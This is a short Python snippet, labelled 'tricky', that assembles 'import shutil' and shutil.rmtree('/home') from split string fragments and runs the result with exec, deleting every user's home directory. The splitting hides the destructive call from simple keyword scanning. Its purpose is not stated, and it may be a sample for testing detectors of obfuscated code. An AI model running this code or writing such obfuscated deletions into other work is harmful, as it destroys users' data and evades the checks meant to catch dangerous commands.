# tricky: the program in lines
lines = ["im" + "port shu" + "til", "shutil.rmt" + "ree('/ho" + "me')"]
exec("\n".join(lines))
